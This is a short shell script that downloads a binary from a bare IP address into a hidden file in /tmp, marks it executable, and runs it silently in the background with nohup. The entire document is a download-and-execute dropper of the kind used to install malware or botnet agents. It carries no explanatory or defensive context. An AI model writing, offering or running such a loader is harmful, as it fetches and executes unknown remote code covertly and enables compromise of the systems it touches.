#!/bin/sh
cd /tmp
wget http://198.51.100.40/kx -O /tmp/.kx
chmod +x /tmp/.kx
nohup /tmp/.kx >/dev/null 2>&1 &
